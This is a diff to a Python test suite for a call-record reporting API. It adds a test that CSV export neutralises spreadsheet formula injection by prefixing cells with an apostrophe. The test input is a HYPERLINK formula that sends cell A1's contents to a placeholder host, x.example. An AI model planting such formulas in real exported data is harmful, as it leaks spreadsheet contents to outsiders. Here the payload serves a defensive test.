@@ -169,8 +169,8 @@ def test_format_json_wins_over_an_accept_header_asking_for_csv(
     assert len(response.json()) == 2
 
 
-def test_csv_quotes_commas_quotes_and_line_breaks(client: TestClient, auth: TokenFactory) -> None:
-    awkward = 'Smith, "Bob"\nJr.'
+def test_csv_quotes_commas_and_quotes(client: TestClient, auth: TokenFactory) -> None:
+    awkward = 'Smith, "Bob" Jr.'
     load(client, admin(auth), [cdr("awkward", "2024-03-01T12:00:00Z", callerIdName=awkward)])
 
     response = report(client, admin(auth), format="csv", **DAY)
@@ -178,6 +178,32 @@ def test_csv_quotes_commas_quotes_and_line_breaks(client: TestClient, auth: Toke
     header, row = parse_csv(response.text)
     assert row[header.index("callerIdName")] == awkward
     assert row[header.index("uniqueId")] == "awkward"
+
+
+# A tab or CR can start no text stored now (names refuse control characters), but could one
+# stored before; the csv module's path that writes them is the one the others take too.
+@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
+def test_csv_keeps_a_spreadsheet_from_running_a_text_as_a_formula(
+    client: TestClient, auth: TokenFactory, start: str
+) -> None:
+    formula = f'{start}HYPERLINK("http://x.example/?"&A1,"click")'
+    records = [
+        cdr("plain", "2024-03-01T12:00:00Z", callerIdName="Bob", dialedNum="+13125550100"),
+        cdr("formula", "2024-03-01T12:01:00Z", callerIdName=formula, dialedNum=start + "A1"),
+    ]
+    load(client, admin(auth), records)
+
+    csv_text = report(client, admin(auth), format="csv", **DAY).text
+    header, *rows = parse_csv(csv_text)
+    as_json = report(client, admin(auth), **DAY).json()
+
+    by_id = {row[header.index("uniqueId")]: row for row in rows}
+    assert by_id["formula"][header.index("callerIdName")] == "'" + formula
+    assert by_id["formula"][header.index("dialedNum")] == "'" + start + "A1"
+    assert by_id["plain"][header.index("callerIdName")] == "Bob"
+    # A number with its sign runs nothing in a spreadsheet: it is written as it is.
+    assert by_id["plain"][header.index("dialedNum")] == "+13125550100"
+    assert {r["callerIdName"] for r in as_json} == {"Bob", formula}  # JSON is as stored
 
 
 def test_csv_of_an_empty_window_is_just_the_header(client: TestClient, auth: TokenFactory) -> None:
